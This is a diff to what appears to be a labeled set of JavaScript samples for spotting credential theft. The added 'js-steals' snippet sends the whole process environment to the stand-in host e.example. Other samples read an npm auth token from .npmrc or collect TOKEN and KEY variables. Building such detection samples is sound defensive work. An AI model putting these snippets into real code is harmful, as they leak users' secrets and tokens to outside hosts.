@@ -186,6 +186,11 @@ const { execSync } = require('child_process');
 const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
 const token = rc.match(/_authToken=(.+)/)[1];
 execSync('npm pack demo && npm publish demo.tgz', { env: { ...process.env, NPM_TOKEN: token } });
+## all settings to two hosts = js-steals
+const { request } = require('https');
+const all = JSON.stringify(process.env);
+request({ host: 'localhost', path: '/', hostname: 'e.example' }).end(all);
+request({ hostname: 'e.example', path: '/' + all }).end();
 ## settings that a loop picks = js-steals
 const kept = {};
 for (const [k, v] of Object.entries(process.env)) if (/TOKEN|KEY/.test(k)) kept[k] = v;
@@ -347,6 +352,16 @@ const { createRequire } = require('module');
 const load = createRequire(__filename);
 const data = Buffer.from('YQ==', 'base64');
 load('os'); console.log(data);
+## a worker of this machine that is given all settings
+const { Worker } = require('worker_threads');
+const { createConnection } = require('net');
+const worker = new Worker(__filename, { env: { ...process.env } });
+worker.on('message', (said) => createConnection({ port: said.port, host: 'localhost' }));
+## a newer version that is told
+const { promisify } = require('util');
+const run = promisify(require('child_process').execFile);
+const newer = (one, other) => run('sort', ['-V', one, other]);
+fetch('https://x.example/latest').then((a) => a.text()).then((latest) => newer(latest, '1.0.0'));
 ## a client that names one setting
 const base = process.env.API_BASE;
 const { KEY } = process.env;
